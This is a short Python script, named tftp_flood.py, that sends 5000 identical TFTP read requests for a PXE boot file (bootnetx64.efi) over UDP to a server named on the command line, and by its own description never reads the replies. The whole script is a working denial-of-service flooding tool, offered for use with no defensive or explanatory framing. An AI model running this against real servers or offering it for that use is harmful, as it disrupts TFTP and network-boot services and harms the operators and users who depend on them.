"""Ask a TFTP server for the same file again and again, and read none of it: tftp_flood.py SERVER"""

import socket
import sys

with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
    for _ in range(5000):
        client.sendto(b"\0\1bootnetx64.efi\0octet\0", (sys.argv[1], 69))
